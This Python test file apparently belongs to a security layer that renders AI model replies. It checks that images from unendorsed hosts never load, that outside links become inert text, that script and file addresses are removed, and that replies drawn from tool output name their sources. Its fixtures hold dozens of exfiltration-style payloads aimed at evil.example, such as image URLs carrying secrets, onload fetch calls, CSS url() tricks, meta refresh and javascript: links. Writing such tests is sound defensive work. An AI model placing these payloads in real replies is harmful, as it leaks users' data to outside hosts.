"""Replies: nothing loads, nothing leads elsewhere unendorsed, and what rests on outside text says so."""

from __future__ import annotations

import pytest

from carapax.core.flow.reply import MAX_NAMED, render_reply, source_words
from carapax.core.terms.label import OWNER_ONLY, Integrity, Label, Source

CLEAN = Label(Integrity.USER, OWNER_ONLY)


def tainted(*sources: Source) -> Label:
    return Label(Integrity.EXTERNAL, OWNER_ONLY, frozenset(sources))


def endorsed(address: str) -> bool:
    return address.split("/")[:3] == ["https:", "", "good.example"]


def shown(text: str) -> str:
    return render_reply(text, CLEAN, endorsed).text


UNCHANGED = [
    "",
    "Plain *text*, a < b & c: d \\ e, e.g. 3.5 or `code`.",
    "See [x](https://good.example/a 'title'), <https://good.example/b> and https://good.example/c.",
    "[x][r]\n\n[r]: https://good.example/a\n",
    '<a href="https://good.example/a">x</a> <b>bold</b><br>',
    "[x](./notes.md) [y](#part) ![plot](plot.png) [ ] todo [1] note",
    "    indented\n\n```\n![x](http://evil.example/i)\nhttp://evil.example/\n```\n\n`http://evil.example/`",
    "write to anna@example.org about List<String>",
    "- [ ] one\n- [x] two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
]


@pytest.mark.parametrize("text", UNCHANGED)
def test_a_clean_reply_is_the_same_bytes(text: str) -> None:
    result = render_reply(text, CLEAN, endorsed)
    assert result.text == text
    assert result.changed == ()
    assert result.sources == ()


PICTURES = [
    "![a](http://evil.example/i.png?d=secret)",
    "![a](https://good.example/i.png)",  # no picture from elsewhere at all: loading it already tells
    "![a](<http://evil.example/i.png> 'title')",
    "![a](//evil.example/i.png)",
    "![a](/\\evil.example/i.png)",
    "![a](&#104;ttp://evil.example/i.png)",
    "![a](http\\://evil.example/i.png)",
    "![a](http&colon;//evil.example/i.png)",
    "![a[b]](http://evil.example/i.png)",
    "![a\nb](\nhttp://evil.example/i.png\n)",
    "![a][r]\n\n[r]: http://evil.example/i.png",
    "![r][]\n\n[R]: <http://evil.example/i.png>",
    "![r]\n\n[r]:\n  //evil.example/i.png",
    "> ![r]\n\n> [r]: http://evil.example/i.png 'x'",
    '<img src="http://evil.example/i.png">',
    "<IMG\nSRC = http://evil.example/i.png />",
    "<img alt='>' src='http://evil.example/i.png'>",
    "<img x='<img src=http://evil.example/i.png>",
    "<img src=x srcset='http://evil.example/i.png 2x'>",
    "<picture><source srcset='http://evil.example/i.png'></picture>",
    "<svg><image href='http://evil.example/i.png'/></svg>",
    "<svg/onload=fetch('http://evil.example/i.png')>",
    "<div style='background:url(http://evil.example/i.png)'>x</div>",
    "<div style='background:u\\72l(//evil.example/i.png)'>x</div>",
    "<style>body{background:url(//evil.example/i.png)}</style>",
    "<table background='//evil.example/i.png'><tr><td>x</table>",
    "<video poster='//evil.example/i.png'></video>",
    "<iframe src='//evil.example/i.png'></iframe>",
    "<object data='//evil.example/i.png'></object>",
    "<link rel=stylesheet href='//evil.example/i.png'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/i.png'>",
    "<base href='//evil.example/'>![a](i.png)",
    "<a href='https://good.example/' ping='//evil.example/i.png'>x</a>",
    "<b onmouseover='x=\"//evil.example/i.png\"'>x</b>",
    "<input type=image src='//evil.example/i.png'>",
    "[![a](http://evil.example/i.png)](https://good.example/)",
    "<div>\n```\n<img src=http://evil.example/i.png>\n```\n</div>",
    "- a\n  ```\n![i](http://evil.example/i.png)\n  ```",
    "`a\n![i](http://evil.example/i.png)\n`",
    "| ` | ![i](http://evil.example/i.png) | ` |",
    "<a href='`'> ` ![i](http://evil.example/i.png) `",
    "\\`![i](http://evil.example/i.png)`",
]


@pytest.mark.parametrize("text", PICTURES)
def test_no_picture_from_elsewhere_loads(text: str) -> None:
    result = render_reply(text, CLEAN, endorsed)
    outside = result.text.replace("[image not shown: evil.example]", "")
    assert "evil.example" not in outside or "`evil.example" in outside
    assert "i.png)" not in outside.replace("(i.png)", "")
    assert "src=" not in outside.lower().replace("&lt;img src=", "")
    assert "//evil" not in outside
    assert result.changed


LINKS = [
    ("[click](https://evil.example/x?d=1) now", "click (`evil.example/x?d=1`, not a link) now"),
    ("[a [b] c](<https://evil.example/x> (t))", "a [b] c (`evil.example/x`, not a link)"),
    ("[`c`](http://evil.example/q)", "`c` (`evil.example/q`, not a link)"),
    ("go to https://evil.example/x.", "go to `evil.example/x`."),
    ("(see https://evil.example/x_(y))", "(see `evil.example/x_(y)`)"),
    ("<https://evil.example/a|b>", "`evil.example/a`"),
    (
        "[t][r], [r][] and [r]\n\n[r]: http://evil.example/p 'T'\n",
        "t (`evil.example/p`, not a link), r (`evil.example/p`, not a link) and r (`evil.example/p`, not a link)\n\n",
    ),
    ("[x](//evil.example/a)", "x (`evil.example/a`, not a link)"),
    ("<a class=b href=http://evil.example/b>t</a> z", "t (`evil.example/b`, not a link) z"),
    ("<a href='https://good.example@evil.example/x'>t</a>", "t (`evil.example/x`, not a link)"),
    ("[https://good.example/](https://evil.example/)", "https://good.example/ (`evil.example/`, not a link)"),
    ("[https://evil.example/x](https://evil.example/x)", "`evil.example/x`"),
    ("www.evil.example/x?y", "`www.evil.example/x?y`"),
    ("evil.example/x?y", "`evil.example/x?y`"),
    ("https&colon;//evil.example/q", "`evil.example/q`"),
    ("http\\://evil.example/r", "`evil.example/r`"),
    ("ht&#116;ps://evil.example/r", "`evil.example/r`"),
    ("www&#46;evil.example/r", "`www.evil.example/r`"),
    ("HTTPS:\\\\evil.example\\r", "`evil.example/r`"),
    ("[x](https://evil.example/a`b|c)", "x (`evil.example/a%60b%7Cc`, not a link)"),
    ("the store is redis://localhost.", "the store is `redis://localhost`."),
    ("(http\\://evil.example/r), ok", "(`evil.example/r`), ok"),
    ("ftp://evil.example/x", "`evil.example/x`"),
    ("[mail](mailto:eve@evil.example)", "mail (`eve@evil.example`, not a link)"),
]


@pytest.mark.parametrize(("text", "wanted"), LINKS)
def test_unendorsed_links_are_text(text: str, wanted: str) -> None:
    assert shown(text) == wanted
    assert shown(wanted) == wanted


@pytest.mark.parametrize(
    "place", ["javascript:alert(1)", "JaVa&#115;cript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc"]
)
def test_addresses_that_run_or_carry_are_removed(place: str) -> None:
    assert shown(f"[x]({place})") == "x"
    assert shown(f'<a href="{place}">x</a>') == "x"
    assert shown(f"![x]({place})") == "[image not shown]"
    assert render_reply(f"[x]({place})", CLEAN, lambda _: True).text == "x"


def test_a_tag_that_never_ends_is_no_tag() -> None:
    assert shown("<img src='//evil.example/i.png'") == "&lt;img src='//evil.example/i.png'"


def test_an_endorsed_link_may_hold_another_address() -> None:
    text = "https://good.example/?next=http://evil.example/ and [x](https://good.example/?u=evil.example)"
    assert shown(text) == text


def test_the_judge_sees_the_decoded_address_with_its_scheme() -> None:
    asked: list[str] = []
    render_reply(
        "[a](http\\://a.example/&amp;x) www.b.example //x [c](//c.example/)", CLEAN, lambda u: not asked.append(u)
    )
    assert {"http://a.example/&x", "https://c.example/", "https://www.b.example"} <= set(asked)
    assert all(address.startswith(("http:", "https:")) for address in asked)


def test_a_reply_from_outside_names_its_sources_once() -> None:
    label = tainted(Source("tool", "c1", "read_mail"), Source("tool", "c2", "read_mail"), Source("file", "report.txt"))
    result = render_reply("It says hello.", label, endorsed)
    assert result.text == "It says hello.\n\n— rests on: file report.txt, what read_mail returned"
    assert result.sources == ("file report.txt", "what read_mail returned")
    assert render_reply(result.text, label, endorsed).text == result.text


def test_a_trusted_label_gets_no_closing_line() -> None:
    for integrity in (Integrity.CATALOG, Integrity.PEER, Integrity.SYSTEM, Integrity.USER):
        label = Label(integrity, OWNER_ONLY, frozenset({Source("file", "a.txt")}))
        assert render_reply("hello", label, endorsed).text == "hello"


def test_many_sources_are_counted_and_the_models_own_are_none() -> None:
    label = tainted(
        *(Source("file", f"f{n}.txt") for n in range(8)), Source("model", "completion"), Source("system", "x")
    )
    text = render_reply("x", label, endorsed).text
    assert text.endswith(f"f4.txt and {8 - MAX_NAMED} more")
    assert len(source_words(label)) == 8
    assert render_reply("x", tainted(), endorsed).text.endswith("rests on: text from outside")


def test_a_sources_name_cannot_write_markup() -> None:
    name = "![x](http://evil.example/i)\n<img src=//evil.example> www.evil.example \u202e" + "y" * 200
    (word,) = source_words(tainted(Source("file", name)))
    assert not any(sign in word for sign in "[]()<>:\n\u202e")
    assert "//" not in word
    assert "www." not in word
    assert len(word) <= 66


def test_a_reply_from_outside_hides_nothing() -> None:
    result = render_reply("pay\u200b now", tainted(), endorsed)
    assert result.text.startswith("pay now")
    assert "invisible characters: U+200B" in result.changed
    assert shown("pay\u200b now") == "pay\u200b now"


def test_what_does_not_come_to_rest_is_one_block_of_code() -> None:
    text = "<a " * 20 + "src=http://evil.example/" + ">" * 20
    once = shown(text)
    assert once.startswith("```")
    assert once.endswith("```")
    assert shown(once) == once
